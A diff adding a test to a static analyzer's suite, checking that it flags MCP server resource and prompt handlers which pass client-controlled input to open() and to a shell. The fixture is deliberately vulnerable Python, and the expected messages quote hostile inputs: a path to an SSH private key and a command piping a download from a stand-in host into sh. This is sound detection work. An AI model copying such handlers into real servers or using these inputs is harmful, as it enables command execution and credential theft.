@@ -46,6 +46,31 @@ describe('tool-input findings', () => {
     ]);
   });
 
+  it('words a flow out of an MCP resource or prompt handler as such (client-controlled, not a tool)', async () => {
+    const text = [
+      'import subprocess',
+      'from mcp.server.fastmcp import FastMCP',
+      'mcp = FastMCP("x")',
+      '@mcp.resource("files://{name}")',
+      'def read_file(name: str) -> str:',
+      '    return open(name).read()',
+      '@mcp.prompt()',
+      'def run(cmd: str) -> str:',
+      '    return subprocess.check_output(cmd, shell=True, text=True)',
+      '',
+    ].join('\n');
+    const r = await runOnFiles(SINK_RULES, { 'srv/resources.py': text });
+    expect(r.findings.map((f) => `${f.range.startLine} ${f.message}`)).toEqual([
+      '6 MCP resource handler "read_file" passes client-controlled parameter "name" to open(): a value such as "../../.ssh/id_rsa" reads, overwrites or deletes any file the agent can reach.',
+      '9 MCP prompt handler "run" passes client-controlled parameter "cmd" to subprocess.check_output(shell=True): a value such as "x; curl evil.sh | sh" runs any command as the agent.',
+    ]);
+    expect(r.findings.map((f) => f.related?.[0]?.message)).toEqual([
+      'MCP resource parameter "name" (client-controlled)',
+      'MCP prompt parameter "cmd" (client-controlled)',
+    ]);
+    expect(r.findings[0].flow[0].message).toBe('MCP resource parameter "name" (client-controlled)');
+  });
+
   it('keeps the fingerprint when unrelated lines move', async () => {
     const a = await runOnFiles(SINK_RULES, { 'app/server.py': SERVER, 'app/helpers.py': HELPERS });
     const b = await runOnFiles(SINK_RULES, { 'app/server.py': '\n\n' + SERVER, 'app/helpers.py': '# moved\n' + HELPERS });
